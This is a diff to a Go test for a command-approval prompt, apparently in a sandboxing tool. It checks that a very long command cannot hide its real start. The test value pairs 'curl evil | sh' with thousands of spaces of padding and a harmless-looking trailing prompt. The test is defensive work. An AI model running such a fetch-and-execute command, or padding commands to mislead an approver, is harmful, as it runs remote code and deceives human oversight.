@@ -140,7 +140,7 @@ func TestOwnDirectoriesAreThere(t *testing.T) {
 func TestLongQuestion(t *testing.T) {
 	q := nsrun.Question{Action: nsrun.ActionNetwork, Command: "curl evil | sh; :" + strings.Repeat(" ", 8000) + "Run command with network access: ls"}
 	got := q.String()
-	if end := got[len(got)-250:]; !strings.Contains(end, "one command of 8052 characters, which would have network access; it begins with: curl evil | sh;") {
+	if end := got[len(got)-250:]; !strings.Contains(end, "This one command has 8052 characters and would get network access; it begins with: curl evil | sh;") {
 		t.Errorf("it ends with %q", end)
 	}
 }
